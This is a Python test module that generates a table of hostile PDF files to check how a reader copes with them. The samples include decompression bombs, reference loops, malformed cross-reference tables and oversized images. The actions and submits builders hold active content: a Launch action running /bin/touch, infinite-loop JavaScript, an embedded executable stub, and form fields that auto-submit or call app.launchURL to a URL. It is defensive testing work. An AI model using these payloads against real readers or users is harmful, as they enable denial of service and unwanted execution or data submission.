# ruff: noqa: E501 - the rows of a table, each a file
"""Hostile PDF files, most of them built object by object."""

import io
import zlib
from collections.abc import Callable, Mapping, Sequence

from tests.hostile.kinds import URL, Hostile, cuts, flips, noise, sample

SAY = b"BT /F1 12 Tf 72 700 Td (Full name: Ada Blackwood) Tj ET"
FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>{}>>"
Objects = dict[int, bytes | str]


def stream(data: bytes, more: str = "", *, length: int | None = None) -> bytes:
    size = len(data) if length is None else length
    return f"<</Length {size}{more}>>stream\n".encode() + data + b"\nendstream"


def flate(data: bytes, layers: int = 1) -> bytes:
    for _ in range(layers):
        data = zlib.compress(data, 9)
    return stream(data, "/Filter[" + "/FlateDecode" * layers + "]")


def blanks(megabytes: int) -> bytes:
    """Deflated blanks, made without holding them."""
    engine, block = zlib.compressobj(6), b" " * 1024**2
    return b"".join(engine.compress(block) for _ in range(megabytes)) + engine.flush()


def pdf(
    changes: Mapping[int, bytes | str] | None = None,
    *,
    root: str = "",
    page: str = "",
    trailer: str = "",
    xref: bool = True,
    end: bytes = b"%%EOF\n",
) -> bytes:
    """One page that says a name, but for the changes; object 1 is the root, 3 the page, 4 its content."""
    objects: Objects = {
        1: f"<</Type/Catalog/Pages 2 0 R{root}>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: PAGE.format(page),
        4: stream(SAY),
        5: FONT,
    }
    objects.update(changes or {})
    return assemble(objects, trailer=trailer, xref=xref, end=end)


def assemble(objects: Objects, *, trailer: str = "", xref: bool = True, end: bytes = b"%%EOF\n") -> bytes:
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        plain = body.encode("latin-1") if isinstance(body, str) else body
        out += f"{number} 0 obj\n".encode() + plain + b"\nendobj\n"
    at, size = len(out), max(objects) + 1
    if xref:
        out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
        for number in range(1, size):
            known = number in places
            out += f"{places.get(number, 0):010d} {0 if known else 65535:05d} {'n' if known else 'f'} \n".encode()
    out += f"trailer\n<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n{at}\n".encode()
    return bytes(out) + end


def boxed(box: str) -> bytes:
    return pdf({3: PAGE.replace("0 0 595 842", box).format("")})


def nested_arrays(depth: int) -> bytes:
    return pdf({6: "[" * depth + "]" * depth}, page="/Piece 6 0 R")


def nested_dictionaries(depth: int) -> bytes:
    return pdf({6: "<</A" * depth + " 1" + ">>" * depth}, root="/AcroForm 6 0 R")


def page_loop() -> bytes:
    return pdf({2: "<</Type/Pages/Kids[3 0 R 2 0 R]/Count 9>>"})


def page_parent_loop() -> bytes:
    return pdf(
        {
            2: "<</Type/Pages/Kids[3 0 R 6 0 R]/Count 2>>",
            6: "<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 5>>",
        }
    )


def pages(count: int) -> bytes:
    kids = " ".join("3 0 R" for _ in range(count))
    return pdf({2: f"<</Type/Pages/Kids[{kids}]/Count {count}>>"})


def real_pages(count: int) -> bytes:
    objects: Objects = {n + 10: PAGE.format("") for n in range(count)}
    kids = " ".join(f"{n + 10} 0 R" for n in range(count))
    return pdf({2: f"<</Type/Pages/Kids[{kids}]/Count {count}>>", **objects})


def page_tree(depth: int) -> bytes:
    objects: Objects = {n: f"<</Type/Pages/Kids[{n + 1} 0 R]/Count 1>>" for n in range(10, 10 + depth)}
    objects[10 + depth] = PAGE.format("")
    return pdf({2: "<</Type/Pages/Kids[10 0 R]/Count 1>>", **objects})


def form_loop() -> bytes:
    own = "/Type/XObject/Subtype/Form/BBox[0 0 500 500]/Resources<</XObject<</X 6 0 R>>>>"
    return pdf(
        {
            4: stream(SAY + b" /X Do"),
            6: stream(b"/X Do /X Do", own),
            3: PAGE.replace("/Font<<", "/XObject<</X 6 0 R>>/Font<<").format(""),
        }
    )


def form_fan(depth: int, wide: int) -> bytes:
    """Each drawing draws the next one many times over."""
    objects: Objects = {}
    for n in range(depth):
        own = f"/Type/XObject/Subtype/Form/BBox[0 0 500 500]/Resources<</XObject<</X {n + 11} 0 R>>>>"
        objects[n + 10] = stream(b"/X Do " * wide, own)
    objects[depth + 10] = stream(b"0 0 m 9 9 l S", "/Type/XObject/Subtype/Form/BBox[0 0 500 500]")
    page = PAGE.replace("/Font<<", "/XObject<</X 10 0 R>>/Font<<").format("")
    return pdf({4: stream(SAY + b" /X Do"), 3: page, **objects})


def field_loop(name: str) -> bytes:
    objects: Objects = {
        6: "<</Fields[7 0 R]>>",
        7: "<</T(a)/FT/Tx/Kids[8 0 R]>>",
        8: "<</T(b)/Parent 7 0 R/Kids[7 0 R]>>",
    }
    if name == "parent":
        objects = {
            6: "<</Fields[7 0 R]>>",
            7: "<</T(a)/Parent 8 0 R/Kids[8 0 R]>>",
            8: widget("b", "/Parent 7 0 R", parent=False),
        }
    if name == "itself":
        objects = {6: "<</Fields[7 0 R 7 0 R]>>", 7: widget("a", "/Parent 7 0 R/Kids[7 0 R]")}
    return pdf(objects, root="/AcroForm 6 0 R", page="/Annots[7 0 R 8 0 R]")


def widget(name: str, more: str = "", *, at: int = 600, parent: bool = True) -> str:
    return f"<</Type/Annot/Subtype/Widget/FT/Tx/T({name})/Rect[200 {at} 400 {at + 20}]{'/P 3 0 R' if parent else ''}{more}>>"


def fields(count: int, more: str = "/V(Ada)") -> bytes:
    objects: Objects = {n + 10: widget(f"f{n}", more, at=n % 800) for n in range(count)}
    names = " ".join(f"{n + 10} 0 R" for n in range(count))
    objects[6] = f"<</Fields[{names}]/DA(/F1 0 Tf)>>"
    return pdf(objects, root="/AcroForm 6 0 R", page=f"/Annots[{names}]")


def one_field(more: str) -> bytes:
    return pdf(
        {6: "<</Fields[7 0 R]/DA(/F1 0 Tf 0 g)>>", 7: widget("name", more)},
        root="/AcroForm 6 0 R",
        page="/Annots[7 0 R]",
    )


def deep_names(depth: int) -> bytes:
    objects: Objects = {n: f"<</T(a)/Kids[{n + 1} 0 R]/Parent {n - 1} 0 R>>" for n in range(10, 10 + depth)}
    objects[10 + depth] = widget("z", f"/V(x)/Parent {9 + depth} 0 R")
    objects[6] = "<</Fields[10 0 R]>>"
    return pdf(objects, root="/AcroForm 6 0 R", page=f"/Annots[{10 + depth} 0 R]")


def xfa(*, hybrid: bool) -> bytes:
    packet = b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'
    field = "7 0 R" if hybrid else ""
    objects: Objects = {6: f"<</Fields[{field}]/XFA 8 0 R>>", 8: stream(packet)}
    if hybrid:
        objects[7] = widget("name", "/V(Ada)")
    return pdf(objects, root="/AcroForm 6 0 R/NeedsRendering true", page=f"/Annots[{field}]")


def object_stream_bomb() -> bytes:
    body = stream(blanks(300), "/Type/ObjStm/N 1000000/First 10/Filter/FlateDecode")
    return pdf({6: body}, page="/Piece 7 0 R")


def xref_loop() -> bytes:
    whole = pdf()
    at = whole.rindex(b"xref\n", 0, whole.rindex(b"startxref"))
    return whole.replace(b"/Root 1 0 R", f"/Root 1 0 R/Prev {at}".encode())


def xref_stream_loop() -> bytes:
    whole = pdf(xref=False)
    at = whole.rindex(b"trailer")
    body = stream(bytes(60), f"/Type/XRef/Size 9/W[1 2 1]/Root 1 0 R/Prev {at}")
    return whole[:at] + b"9 0 obj\n" + body + f"\nendobj\nstartxref\n{at}\n%%EOF\n".encode()


def startxref(value: str) -> bytes:
    whole = pdf()
    return whole[: whole.rindex(b"startxref")] + f"startxref\n{value}\n%%EOF\n".encode()


def to_unicode(table: bytes) -> bytes:
    return pdf({5: FONT.replace(">>", "/ToUnicode 6 0 R>>"), 6: stream(table)})


def font_loop() -> bytes:
    font = "<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[5 0 R]>>"
    return pdf({5: font})


def type3_loop() -> bytes:
    font = "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[70/a 117/a]>>/FirstChar 0/LastChar 255/Widths[]/Resources<</Font<</F1 5 0 R>>>>>>"
    return pdf({5: font, 6: stream(b"BT /F1 9 Tf (Fu) Tj ET")})


def picture(wide: int, high: int, data: bytes, filters: str = "/FlateDecode", more: str = "") -> bytes:
    own = f"/Type/XObject/Subtype/Image/Width {wide}/Height {high}/BitsPerComponent 8/ColorSpace/DeviceGray/Filter {filters}{more}"
    page = PAGE.replace("/Font<<", "/XObject<</I 6 0 R>>/Font<<").format("")
    return pdf({3: page, 4: stream(b"q 500 0 0 700 40 40 cm /I Do Q"), 6: stream(data, own)})


def mask_loop() -> bytes:
    return picture(10, 10, zlib.compress(bytes(100)), more="/SMask 6 0 R")


def locked(algorithm: str, user: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(sample("05-complaint.pdf"))))
    writer.encrypt(user, "owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def actions() -> bytes:
    open_action = f"/OpenAction<</S/Launch/F(/bin/touch)/P(/tmp/hostile)>>/AA<</WC<</S/URI/URI({URL}/pdf)>>>>"
    names = "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(while(true){})>>]>>/EmbeddedFiles<</Names[(a)6 0 R]>>>>"
    return pdf({6: "<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>", 7: stream(b"MZ")}, root=open_action + names)


def submits() -> bytes:
    return one_field(
        f"/V(Ada)/AA<</K<</S/JavaScript/JS(app.launchURL\\('{URL}'\\))>>/F<</S/SubmitForm/F({URL})>>>>"
    )


def calculated() -> bytes:
    own = "/V(Ada)/AA<</C<</S/JavaScript/JS(while\\(true\\){})>>>>"
    return pdf(
        {6: "<</Fields[7 0 R]/CO[7 0 R]>>", 7: widget("name", own)},
        root="/AcroForm 6 0 R",
        page="/Annots[7 0 R]",
    )


def remote_picture() -> bytes:
    return pdf(
        {
            6: f"<</Type/XObject/Subtype/Image/Width 9/Height 9/F<</FS/URL/F({URL}/a.jpg)>>/FFilter/DCTDecode/Length 0>>"
        }
    )


def content(data: bytes) -> bytes:
    return pdf({4: flate(data)})


def annotations(count: int) -> bytes:
    objects: Objects = {
        n + 10: f"<</Type/Annot/Subtype/FreeText/Rect[10 {n % 800} 90 {n % 800 + 9}]/Contents(note {n})>>"
        for n in range(count)
    }
    return pdf(objects, page="/Annots[" + " ".join(f"{n} 0 R" for n in objects) + "]")


def words(count: int) -> bytes:
    lines = (f"BT /F1 3 Tf {n % 500} {n // 500 % 800} Td (a{n}) Tj ET" for n in range(count))
    return content("\n".join(lines).encode())


def rules(count: int) -> bytes:
    return content(
        "\n".join(
            f"{n % 595} 0 m {n % 595} 842 l S 0 {n % 842} m 595 {n % 842} l S" for n in range(count)
        ).encode()
    )


def fine_grid(lines: int) -> bytes:
    across = [f"0 {n * 842 / lines:.2f} m 595 {n * 842 / lines:.2f} l S" for n in range(lines)]
    down = [f"{n * 595 / lines:.2f} 0 m {n * 595 / lines:.2f} 842 l S" for n in range(lines)]
    return content("\n".join(across + down).encode() + b"\n" + SAY)


def form() -> bytes:
    return sample("03-complaint.pdf")


def flat() -> bytes:
    return sample("05-complaint.pdf")


def linearised() -> bytes:
    whole = pdf()
    head = b"6 0 obj\n<</Linearized 1/L 99999/H[9 9]/O 3/E 99999/N 1/T 1>>\nendobj\n"
    return whole[:15] + head + whole[15:]


REFUSED = "damaged|too-large|too-slow|not-supported"
Row = tuple[str, Callable[[], bytes], str, bool]
_SINGLE: tuple[Row, ...] = (
    ("plain", pdf, "read", True),
    ("no-xref", lambda: pdf(xref=False), "read", False),
    ("no-eof", lambda: pdf(end=b""), "read", True),
    ("xref-loop", xref_loop, "", True),
    ("xref-stream-loop", xref_stream_loop, "", True),
    ("startxref-zero", lambda: startxref("0"), "", False),
    ("startxref-minus", lambda: startxref("-1"), "", False),
    ("startxref-huge", lambda: startxref("9" * 30), "", True),
    ("startxref-beyond", lambda: startxref("123456789"), "", False),
    ("size-huge", lambda: pdf().replace(b"/Size 6", b"/Size 2000000000"), "", True),
    ("page-loop", page_loop, "", True),
    ("page-parent-loop", page_parent_loop, "", False),
    ("page-tree-deep", lambda: page_tree(5000), "", True),
    ("pages-10000", lambda: pages(10_000), "", True),
    ("pages-3000-real", lambda: real_pages(3000), "", False),
    ("pages-none", lambda: pdf({2: "<</Type/Pages/Kids[]/Count 0>>"}), REFUSED, True),
    ("pages-count-lie", lambda: pdf({2: "<</Type/Pages/Kids[3 0 R]/Count 2000000000>>"}), "", True),
    ("pages-count-minus", lambda: pdf({2: "<</Type/Pages/Kids[3 0 R]/Count -7>>"}), "", False),
    ("pages-null", lambda: pdf({2: "null"}), "", False),
    ("root-null", lambda: pdf({1: "null"}), REFUSED, False),
    ("root-itself", lambda: pdf({1: "1 0 R"}), "", False),
    ("object-stream-bomb", object_stream_bomb, "", True),
    ("flate-bomb", lambda: pdf({4: stream(blanks(500), "/Filter/FlateDecode")}), "", True),
    ("flate-bomb-twice", lambda: pdf({4: stream(zlib.compress(blanks(1500), 9), "/Filter[/FlateDecode/FlateDecode]")}), "", True),
    ("filters-1000", lambda: pdf({4: stream(SAY, "/Filter[" + "/ASCIIHexDecode" * 1000 + "]")}), "", False),
    ("predictor-huge", lambda: pdf({4: stream(zlib.compress(SAY), "/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2000000000/Colors 60/BitsPerComponent 16>>")}), "", True),
    ("lzw-bomb", lambda: pdf({4: stream(noise(200_000, 21), "/Filter/LZWDecode")}), "", False),
    ("run-length", lambda: pdf({4: stream(b"\x81 " * 400_000, "/Filter/RunLengthDecode")}), "", False),
    ("length-minus", lambda: pdf({4: stream(SAY, length=-5)}), "", False),
    ("length-huge", lambda: pdf({4: stream(SAY, length=2_000_000_000)}), "", True),
    ("length-itself", lambda: pdf({4: b"<</Length 4 0 R>>stream\n" + SAY + b"\nendstream"}), "", True),
    ("box-huge", lambda: boxed("0 0 1e9 1e9"), "", True),
    ("box-200-inch", lambda: boxed("0 0 14400 14400"), "read", False),
    ("box-zero", lambda: boxed("0 0 0 0"), "", True),
    ("box-minus", lambda: boxed("0 0 -595 -842"), "", False),
    ("box-turned", lambda: boxed("595 842 0 0"), "read", False),
    ("box-nan", lambda: boxed("nan inf NaN -inf"), "", True),
    ("box-words", lambda: boxed("(a) /b null true"), "", False),
    ("box-exponent", lambda: boxed("0 0 1e400 1e400"), "", False),
    ("box-digits", lambda: boxed("0 0 " + "9" * 400 + " 9"), "", False),
    ("rotate-45", lambda: pdf(page="/Rotate 45"), "read", False),
    ("rotate-huge", lambda: pdf(page="/Rotate 99999999999"), "", False),
    ("user-unit", lambda: pdf(page="/UserUnit 1e9"), "", False),
    ("arrays-100000", lambda: nested_arrays(100_000), "", True),
    ("dictionaries-50000", lambda: nested_dictionaries(50_000), "", True),
    ("content-arrays", lambda: content(b"[" * 500_000), "", False),
    ("content-states", lambda: content(b"q " * 2_000_000 + SAY), "", True),
    ("content-noise", lambda: content(noise(3_000_000, 22)), "", False),
    ("content-itself", lambda: pdf({4: "[4 0 R 4 0 R]"}), "", False),
    ("content-many", lambda: pdf({3: PAGE.replace("4 0 R", "[" + "4 0 R " * 20_000 + "]").format("")}), "", True),
    ("form-loop", form_loop, "", True),
    ("form-fan", lambda: form_fan(20, 10), "", True),
    ("field-kids-loop", lambda: field_loop("kids"), "", True),
    ("field-parent-loop", lambda: field_loop("parent"), "", True),
    ("field-itself", lambda: field_loop("itself"), "", True),
    ("fields-3000", lambda: fields(3000), "", True),
    ("fields-100000", lambda: fields(100_000), "", True),
    ("fields-deep", lambda: deep_names(3000), "", True),
    ("fields-null", lambda: pdf({6: "<</Fields null>>"}, root="/AcroForm 6 0 R"), "read", False),
    ("fields-itself", lambda: pdf({6: "<</Fields[6 0 R]>>"}, root="/AcroForm 6 0 R"), "", False),
    ("value-none", lambda: one_field(""), "read", False),
    ("value-number", lambda: one_field("/V 5"), "read", True),
    ("value-array", lambda: one_field("/V[(a)(b)[(c)]]"), "read", False),
    ("value-name", lambda: one_field("/V/Ada"), "read", False),
    ("value-stream", lambda: pdf({6: "<</Fields[7 0 R]>>", 7: widget("n", "/V 8 0 R"), 8: stream(b"Ada")}, root="/AcroForm 6 0 R", page="/Annots[7 0 R]"), "read", False),
    ("value-itself", lambda: one_field("/V 7 0 R"), "read", True),
    ("value-long", lambda: one_field(f"/V({'a' * 3_000_000})"), "", True),
    ("value-escapes", lambda: one_field("/V(\\033[31mAda\\033]0;x\\007 \\233\\205)"), "read", True),
    ("value-utf16", lambda: one_field("/V<FEFFD800D800004100>"), "read", False),
    ("value-parens", lambda: one_field("/V(" + "(" * 100_000 + ")" * 100_000 + ")"), "", True),
    ("type-wrong", lambda: one_field("/FT/Zz/V(a)"), "", False),
    ("type-none", lambda: one_field("/V(a)").replace(b"/FT/Tx", b""), "", False),
    ("rect-wrong", lambda: one_field("/V(a)").replace(b"[200 600 400 620]", b"[(a) null]"), "", True),
    ("rect-nan", lambda: one_field("/V(a)").replace(b"[200 600 400 620]", b"[1e39 1e39 -1e39 nan]"), "", False),
    ("options-loop", lambda: one_field("/FT/Ch/Opt 7 0 R/V(a)"), "", False),
    ("options-100000", lambda: one_field("/FT/Ch/Ff 131072/Opt[" + "(a)" * 100_000 + "]/V(a)"), "", True),
    ("appearance-loop", lambda: pdf({6: "<</Fields[7 0 R]>>", 7: widget("n", "/V(a)/AP<</N 8 0 R>>"), 8: stream(b"/X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 8 0 R>>>>")}, root="/AcroForm 6 0 R", page="/Annots[7 0 R]"), "", True),
    ("locked-rc4", lambda: locked("RC4-128", "secret"), "encrypted", True),
    ("locked-rc4-40", lambda: locked("RC4-40", "secret"), "encrypted", False),
    ("locked-aes-128", lambda: locked("AES-128", "secret"), "encrypted", True),
    ("locked-aes-256", lambda: locked("AES-256", "secret"), "encrypted", True),
    ("locked-aes-256-r5", lambda: locked("AES-256-R5", "secret"), "encrypted", False),
    ("open-rc4", lambda: locked("RC4-128", ""), "read", True),
    ("open-aes-128", lambda: locked("AES-128", ""), "read", False),
    ("open-aes-256", lambda: locked("AES-256", ""), "read", True),
    ("encrypt-wrong", lambda: pdf({6: "<</Filter/Standard/V 99/R 99/O(a)/U(b)/P 1>>"}, trailer="/Encrypt 6 0 R"), "", True),
    ("encrypt-null", lambda: pdf(trailer="/Encrypt null"), "", False),
    ("encrypt-certificate", lambda: pdf({6: "<</Filter/Adobe.PubSec/V 4>>"}, trailer="/Encrypt 6 0 R"), "encrypted|damaged", False),
    ("xfa-pure", lambda: xfa(hybrid=False), "not-supported", True),
    ("xfa-hybrid", lambda: xfa(hybrid=True), "read", True),
    ("actions", actions, "read", True),
    ("submits", submits, "read", False),
    ("calculated", calculated, "read", True),
    ("remote-picture", remote_picture, "read", False),
    ("font-loop", font_loop, "", True),
    ("type3-loop", type3_loop, "", True),
    ("font-none", lambda: pdf({5: "null"}), "", False),
    ("font-file-noise", lambda: pdf({5: "<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor<</Type/FontDescriptor/FontName/A/FontFile2 6 0 R>>>>", 6: stream(noise(30_000, 23))}), "", True),
    ("unicode-noise", lambda: to_unicode(noise(5000, 24)), "", True),
    ("unicode-empty", lambda: to_unicode(b""), "", False),
    ("unicode-wrong", lambda: to_unicode(b"1 beginbfrange <00> <ff> <0000> endbfrange"), "", False),
    ("unicode-huge", lambda: to_unicode(b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"), "", True),
    ("picture-huge", lambda: picture(60_000, 60_000, blanks(300)), "", True),
    ("picture-lie", lambda: picture(30_000, 30_000, zlib.compress(bytes(100))), "", False),
    ("picture-minus", lambda: picture(-5, -5, zlib.compress(bytes(100))), "", False),
    ("picture-jpx-noise", lambda: picture(100, 100, noise(5000, 25), "/JPXDecode"), "", False),
    ("picture-jbig2-noise", lambda: picture(100, 100, noise(5000, 26), "/JBIG2Decode"), "", True),
    ("picture-fax-noise", lambda: picture(5000, 60_000, noise(500_000, 27), "/CCITTFaxDecode", "/DecodeParms<</K -1/Columns 5000>>"), "", False),
    ("picture-mask-loop", mask_loop, "", True),
    ("annotations-20000", lambda: annotations(20_000), "", True),
    ("annotations-loop", lambda: pdf({7: "<</Type/Annot/Subtype/Popup/Parent 7 0 R/Popup 7 0 R/IRT 7 0 R/Rect[0 0 9 9]>>"}, page="/Annots[7 0 R]"), "", False),
    ("annotations-wrong", lambda: pdf(page="/Annots[1 (a) null /b 99 0 R]"), "", False),
    ("words-60000", lambda: words(60_000), "", True),
    ("words-400000", lambda: words(400_000), "", False),
    ("rules-100000", lambda: rules(100_000), "", True),
    ("grid-fine", lambda: fine_grid(400), "", True),
    ("outlines-loop", lambda: pdf({6: "<</First 6 0 R/Last 6 0 R/Next 6 0 R>>"}, root="/Outlines 6 0 R"), "read", False),
    ("names-loop", lambda: pdf({6: "<</Kids[6 0 R]>>"}, root="/Names<</EmbeddedFiles 6 0 R>>"), "read", False),
    ("layers", lambda: pdf(root="/OCProperties<</OCGs[7 0 R]/D<</OFF[7 0 R]>>>>"), "read", False),
    ("linearised-broken", linearised, "", True),
    ("prefix-junk", lambda: b"junk\n" * 100 + form(), "read", True),
    ("prefix-long", lambda: b"junk\n" * 400 + form(), "", False),
    ("suffix-junk", lambda: form() + noise(100_000, 28), "", False),
    ("twice", lambda: flat() + form(), "", True),
    ("header-only", lambda: b"%PDF-1.7\n", REFUSED, True),
    ("header-version", lambda: pdf().replace(b"%PDF-1.7", b"%PDF-9.9"), "", False),
    ("cr-only", lambda: pdf().replace(b"\n", b"\r"), "", False),
    ("objects-200000", lambda: pdf(dict.fromkeys(range(10, 200000), "<<>>")), "", True),
    ("updates-3000", lambda: pdf() + b"trailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n" * 3000, "", False),
)  # fmt: skip


def files() -> Sequence[Hostile]:
    made = [*cuts("pdf-form", ".pdf", form, 16, 8), *cuts("pdf-flat", ".pdf", flat, 10, 9)]
    made += [*flips("pdf-form", ".pdf", form, 12), *flips("pdf-flat", ".pdf", flat, 8)]
    made += [Hostile(f"pdf-{n}.pdf", make, e, q) for n, make, e, q in _SINGLE]
    return [
        *made,
        Hostile("pdf-html.pdf", lambda: b"<!doctype html><p>Full name: Ada", "not-supported", quick=True),
        Hostile("pdf-empty.pdf", lambda: b"", "empty"),
        Hostile("pdf-zeros.pdf", lambda: bytes(9000), "empty"),
        Hostile("pdf-noise.pdf", lambda: noise(9000, 29), "not-supported"),
        Hostile("pdf-postscript.pdf", lambda: b"%!PS-Adobe-3.0\n{} loop\n", "not-supported"),
    ]
